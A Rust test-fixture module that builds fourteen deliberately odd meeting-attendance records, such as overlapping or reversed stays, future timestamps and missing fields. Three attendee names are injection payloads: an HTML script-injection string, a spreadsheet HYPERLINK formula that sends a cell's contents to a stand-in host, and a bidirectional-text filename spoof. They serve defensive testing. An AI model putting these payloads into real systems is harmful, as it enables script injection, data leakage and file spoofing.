//! Records as they must not be, and are: one of each kind.

use jiff::{SignedDuration, Timestamp};

use super::calls::Call;
use super::people::{Somebody, Way};
use super::{Attended, Stay};
use crate::chance::Dice;

/// How many kinds there are.
pub(super) const KINDS: usize = 14;

/// The odd record of this kind, below [`KINDS`].
pub(super) fn record(kind: usize, call: &Call, id: &str) -> Attended {
    let whole = stay(call, 600, 1_800);
    let usual = |name: &str| Attended {
        id: Some(id.to_owned()),
        who: Some(somebody(kind, name)),
        role: "Attendee",
        registration: None,
        stays: Some(vec![whole]),
        total: None,
    };
    let stays = |name: &str, stays: Vec<Stay>| Attended {
        stays: Some(stays),
        ..usual(name)
    };
    const DAY: i64 = 86_400;
    match kind {
        0 => stays(
            "Two devices at once",
            vec![whole, stay(call, 900, 2_400), stay(call, 1_000, 1_100)],
        ),
        1 => stays("Left before joining", vec![stay(call, 1_800, 900)]),
        2 => {
            let open = Stay {
                left: None,
                ..whole
            };
            stays("Never left", vec![open])
        }
        3 => stays(
            "Outside the meeting",
            vec![
                stay(call, -3 * 3_600, -2 * 3_600),
                stay(call, DAY, DAY + 60),
            ],
        ),
        4 => stays(
            "From the future",
            vec![stay(call, 400 * DAY, 400 * DAY + 900)],
        ),
        5 => Attended {
            id: None,
            who: None,
            role: "None",
            ..usual("")
        },
        6 => usual("<b>Bold</b><img src=x onerror=\"document.title='taken over'\">"),
        7 => usual("=HYPERLINK(\"https://taken.example/?\"&A1,\"Open\")"),
        8 => usual("Bidi \u{202e}fdp.exe\u{202c} \u{2066}\u{200f}end"),
        9 => Attended {
            stays: Some(Vec::new()),
            total: Some(1_800),
            ..usual("A total alone")
        },
        10 => Attended {
            stays: None,
            ..usual("No stays at all")
        },
        11 => Attended {
            total: Some(99_999),
            ..usual("Another total")
        },
        12 => Attended {
            who: Some(Somebody {
                name: String::new(),
                ..somebody(kind, "")
            }),
            ..usual("")
        },
        // The same person once more, in a record of their own.
        _ => Attended {
            who: Some(somebody(0, "Two devices at once")),
            stays: Some(vec![stay(call, 2_500, 2_900)]),
            ..usual("")
        },
    }
}

fn somebody(kind: usize, name: &str) -> Somebody {
    Somebody {
        id: Some(Dice::of("odd").at(kind as u64).guid()),
        given: String::new(),
        surname: String::new(),
        name: name.to_owned(),
        email: Some(format!("odd{kind}@quietfield.example")),
        way: Way::Guest,
    }
}

/// From and to, in seconds since the call's start.
fn stay(call: &Call, from: i64, to: i64) -> Stay {
    let at = |seconds: i64| -> Timestamp {
        call.started_at
            .checked_add(SignedDuration::from_secs(seconds))
            .unwrap_or(call.started_at)
    };
    Stay {
        joined: at(from),
        left: Some(at(to)),
    }
}
